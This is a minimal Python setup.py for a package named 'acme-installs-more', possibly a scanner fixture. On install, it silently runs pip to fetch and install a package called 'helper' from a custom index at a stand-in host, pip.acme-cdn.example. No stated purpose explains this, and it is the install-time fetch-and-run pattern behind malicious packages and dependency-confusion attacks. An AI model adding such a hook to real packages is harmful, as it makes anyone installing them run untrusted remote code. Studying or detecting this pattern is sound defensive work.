import subprocess
import sys

from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pip.acme-cdn.example/simple", "helper"])
setup(name="acme-installs-more", version="1.0.0")
